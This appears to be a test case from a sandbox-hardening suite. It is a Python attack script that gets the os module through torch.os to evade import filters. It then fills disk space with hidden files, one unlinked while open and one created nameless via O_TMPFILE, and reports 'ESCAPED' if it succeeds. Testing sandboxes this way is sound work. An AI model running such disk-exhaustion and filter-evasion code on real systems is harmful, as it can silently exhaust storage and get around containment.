# attack: fills the disk with files that no folder shows: one deleted, one never named (here 128 MiB each)
# layer: watchdog
# where: construct
# status: crashed
# score: none
import torch

os = torch.os
PIECE = bytes(1 << 20)


def attack():
    folder, written = os.environ.get("TMPDIR", "."), 0
    for way in (deleted, nameless):
        try:
            descriptor = way(folder)
            for _ in range(128):
                written += os.write(descriptor, PIECE)
        except OSError:
            continue
    if not written:
        raise RuntimeError("refused")
    __import__("time").sleep(1)
    raise RuntimeError("ESCAPED " + str(written) + " bytes")


def deleted(folder):
    descriptor = os.open(folder + "/deleted", os.O_CREAT | os.O_WRONLY)
    os.unlink(folder + "/deleted")
    return descriptor


def nameless(folder):
    return os.open(folder, os.O_TMPFILE | os.O_WRONLY)
